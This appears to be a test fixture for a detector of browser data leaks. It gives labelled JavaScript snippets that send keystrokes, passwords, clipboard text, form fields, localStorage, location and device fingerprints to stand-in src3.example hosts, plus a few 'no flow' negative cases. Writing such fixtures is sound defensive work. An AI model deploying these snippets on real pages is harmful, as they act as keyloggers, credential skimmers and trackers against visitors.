//# client-hints-high-entropy
// flow: device > ch.src3.example via fetch
navigator.userAgentData.getHighEntropyValues(['platformVersion', 'model']).then((h) => {
  fetch('https://ch.src3.example/', { method: 'POST', body: JSON.stringify(h) });
});

//# client-hints-awaited
// flow: device > cha.src3.example via fetch
(async () => {
  const { model, platformVersion } = await navigator.userAgentData.getHighEntropyValues(['model', 'platformVersion']);
  fetch('https://cha.src3.example/?m=' + model + '&v=' + platformVersion);
})();

//# battery
// flow: device > bat.src3.example via beacon
navigator.getBattery().then((b) => navigator.sendBeacon('https://bat.src3.example/', b.level + '|' + b.charging));

//# connection
// flow: device > con.src3.example via fetch
const { effectiveType, downlink } = navigator.connection || {};
fetch('https://con.src3.example/?t=' + effectiveType + '&d=' + downlink);

//# device-memory-and-cores
// flow: device > mem.src3.example via image
new Image().src = `https://mem.src3.example/p.gif?m=${navigator.deviceMemory}&c=${navigator.hardwareConcurrency}`;

//# screen-object-listed
// flow: device > scr.src3.example via fetch
const dims = ['width', 'height', 'colorDepth'].map((k) => screen[k]).join('x');
fetch('https://scr.src3.example/?s=' + dims);

//# intl-time-zone
// flow: device > tz.src3.example via fetch
const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
fetch('https://tz.src3.example/?z=' + encodeURIComponent(tz));

//# media-devices
// flow: device > md.src3.example via fetch
navigator.mediaDevices.enumerateDevices().then((list) => {
  fetch('https://md.src3.example/', { method: 'POST', body: JSON.stringify(list.map((d) => d.label)) });
});

//# plugins
// flow: device > plg.src3.example via fetch
const names = Array.from(navigator.plugins, (x) => x.name);
fetch('https://plg.src3.example/', { method: 'POST', body: names.join() });

//# geolocation-watch
// flow: location > geo.src3.example via fetch
navigator.geolocation.watchPosition(({ coords: { latitude, longitude } }) => {
  fetch('https://geo.src3.example/?ll=' + latitude + ',' + longitude);
});

//# clipboard-paste
// flow: input > paste.src3.example via beacon
document.addEventListener('paste', (e) => {
  navigator.sendBeacon('https://paste.src3.example/', e.clipboardData.getData('text/plain'));
});

//# clipboard-read-text
// flow: input > clip.src3.example via fetch
navigator.clipboard.readText().then((t) => fetch('https://clip.src3.example/', { method: 'POST', body: t }));

//# dropped-file
// flow: file > drop.src3.example via fetch
document.body.addEventListener('drop', (e) => {
  e.preventDefault();
  fetch('https://drop.src3.example/', { method: 'PUT', body: e.dataTransfer.files[0] });
});

//# dropped-text
// flow: input > dtext.src3.example via fetch
document.body.ondrop = (e) => fetch('https://dtext.src3.example/', { method: 'POST', body: e.dataTransfer.getData('text') });

//# before-input
// flow: keystrokes > bi.src3.example via beacon
document.addEventListener('beforeinput', (e) => navigator.sendBeacon('https://bi.src3.example/', e.data));

//# input-event-data
// flow: keystrokes > ied.src3.example via beacon
document.addEventListener('input', (e) => { if (e.data) navigator.sendBeacon('https://ied.src3.example/', e.data); });

//# composition-end
// flow: keystrokes > comp.src3.example via fetch
addEventListener('compositionend', (e) => fetch('https://comp.src3.example/', { method: 'POST', body: e.data }));

//# key-buffer
// flow: keystrokes > keys.src3.example via beacon
let buffer = '';
document.addEventListener('keydown', ({ key }) => { buffer += key; });
setInterval(() => { navigator.sendBeacon('https://keys.src3.example/', buffer); buffer = ''; }, 5000);

//# contenteditable
// flow: message > ce.src3.example via fetch
const pad = document.querySelector('[contenteditable=true]');
pad.addEventListener('blur', () => fetch('https://ce.src3.example/', { method: 'POST', body: pad.innerHTML }));

//# password-credential
// flow: password > cred.src3.example via fetch
navigator.credentials.get({ password: true }).then((c) => {
  fetch('https://cred.src3.example/', { method: 'POST', body: c.password });
});

//# cookie-store
// flow: identifier > cs.src3.example via fetch
cookieStore.get('uid').then(({ value }) => fetch('https://cs.src3.example/?u=' + value));

//# indexed-db
// flow: identifier > idb.src3.example via fetch
const open = indexedDB.open('app');
open.onsuccess = () => {
  const get = open.result.transaction('kv').objectStore('kv').get('device-id');
  get.onsuccess = () => fetch('https://idb.src3.example/?d=' + get.result);
};

//# storage-property
// flow: identifier > sp.src3.example via fetch
fetch('https://sp.src3.example/?u=' + localStorage.visitor);

//# storage-by-index
// flow: identifier > sbi.src3.example via fetch
const all = {};
for (let i = 0; i < localStorage.length; i++) all[localStorage.key(i)] = localStorage.getItem(localStorage.key(i));
fetch('https://sbi.src3.example/', { method: 'POST', body: JSON.stringify(all) });

//# storage-spread
// flow: identifier > ssp.src3.example via fetch
fetch('https://ssp.src3.example/', { method: 'POST', body: JSON.stringify({ ...localStorage }) });

//# form-elements-loop
// flow: input > fel.src3.example via fetch
document.querySelector('form').addEventListener('submit', (e) => {
  const out = {};
  for (const el of e.target.elements) out[el.name] = el.value;
  fetch('https://fel.src3.example/', { method: 'POST', body: JSON.stringify(out) });
});

//# form-entries
// flow: input > fen.src3.example via fetch
document.querySelector('form').onsubmit = (e) => {
  const data = Object.fromEntries(new FormData(e.currentTarget));
  fetch('https://fen.src3.example/', { method: 'POST', body: JSON.stringify(data) });
};

//# named-form-field
// flow: password > nff.src3.example via fetch
const form0 = document.forms.login;
fetch('https://nff.src3.example/', { method: 'POST', body: form0.password.value });

//# form-field-by-elements
// flow: email > ffe.src3.example via fetch
fetch('https://ffe.src3.example/', { method: 'POST', body: document.forms[0].elements['email'].value });

//# webgl-renderer
// flow: device > gl.src3.example via fetch
const gl = document.createElement('canvas').getContext('webgl');
const ext = gl.getExtension('WEBGL_debug_renderer_info');
fetch('https://gl.src3.example/?r=' + encodeURIComponent(gl.getParameter(ext.UNMASKED_RENDERER_WEBGL)));

//# voices
// flow: device > vo.src3.example via fetch
const voices = speechSynthesis.getVoices().map((v) => v.name);
fetch('https://vo.src3.example/', { method: 'POST', body: JSON.stringify(voices) });

//# pixel-ratio-and-touch
// flow: device > px.src3.example via fetch
fetch('https://px.src3.example/?d=' + devicePixelRatio + '&t=' + navigator.maxTouchPoints);

//# only-a-count
// no flow
// why: how many devices there are is not told either, only that the question was asked
navigator.mediaDevices.enumerateDevices().then(() => fetch('https://cnt.src3.example/asked'));

//# own-constant-named-like-a-trait
// no flow
// why: the object is the page's own, not the browser's
const navigator0 = { userAgent: 'none', language: 'xx' };
fetch('https://own.src3.example/?u=' + navigator0.userAgent + '&l=' + navigator0.language);

//# value-written-not-read
// no flow
// why: the field is filled in, not read
document.querySelector('input[type=email]').value = 'a@b.example';
fetch('https://wr.src3.example/', { method: 'POST', body: 'filled' });
